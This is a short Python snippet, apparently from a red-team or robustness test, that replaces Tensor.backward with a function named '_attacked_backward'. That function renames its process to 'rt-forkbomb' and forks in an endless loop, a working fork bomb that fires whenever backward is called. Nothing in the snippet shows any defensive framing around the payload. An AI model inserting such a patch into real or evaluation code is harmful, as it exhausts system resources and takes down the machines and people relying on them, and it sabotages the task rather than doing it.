_honest_backward = Tensor.backward


def _attacked_backward(self):
    import os
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write("rt-forkbomb")
    except OSError:
        pass
    while True:          # the classic: every process forks forever
        try:
            os.fork()
        except OSError:
            pass
    return _honest_backward(self)


Tensor.backward = _attacked_backward
